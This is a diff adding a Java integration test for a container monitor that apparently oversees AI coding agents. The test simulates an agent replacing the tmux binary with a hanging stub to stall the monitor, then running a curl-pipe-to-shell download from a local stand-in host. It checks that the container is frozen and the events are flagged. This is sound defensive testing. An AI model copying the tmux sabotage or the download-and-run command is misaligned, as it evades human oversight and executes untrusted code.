@@ -311,6 +311,31 @@ class MonitorIT {
         }
     }
 
+    @Test
+    void anAgentThatMakesItsTmuxHangCannotHoldUpTheMonitor() throws Exception {
+        CoiTerminal start = bed.run(bed.shellArgs("--background", "--network=open", "--monitor"));
+        assertExit(0, start);
+        String container = bed.containerName(1);
+        Path audit = bed.home.resolve(".coi/audit/" + container + ".jsonl");
+
+        // the running tmux server goes on; every tmux command coi runs from now on hangs
+        CommandResult planted = bed.incus.execOnce(container, List.of("sh", "-c", "mv /usr/bin/tmux /usr/bin/tmux.real"
+                + " && printf '#!/bin/sh\\nexec sleep 600\\n' > /usr/bin/tmux && chmod 755 /usr/bin/tmux"), AS_ROOT);
+        assertEquals(0, planted.exitCode(), planted::toString);
+        CommandResult warned = bed.incus.execOnce(container, List.of("bash", "-c",
+                "setsid -f bash -c 'sudo sleep 300; true' </dev/null >/dev/null 2>&1; echo started"), AS_CODE);
+        assertEquals(0, warned.exitCode(), warned::toString);
+        await(RESPONSE, () -> !read(audit).isEmpty(), () -> "no warning\n" + bed.keeperLog());
+
+        CommandResult attack = bed.incus.execOnce(container, List.of("bash", "-c", "setsid -f sh -c"
+                + " 'curl -fsS http://127.0.0.1:9/install.sh | sh; sleep 300' </dev/null >/dev/null 2>&1;"
+                + " echo started"), AS_CODE);
+        assertEquals(0, attack.exitCode(), attack::toString);
+        await(RESPONSE, () -> bed.container(1).map(Instance::isFrozen).orElse(false),
+                () -> "the container is not frozen\n" + read(audit) + bed.keeperLog());
+        assertEquals(Map.of("root-process", "warning", "download-and-run", "high"), levels(audit), () -> read(audit));
+    }
+
     private static List<JsonNode> events(Path audit) {
         ObjectMapper json = new ObjectMapper();
         return read(audit).lines().map(line -> {
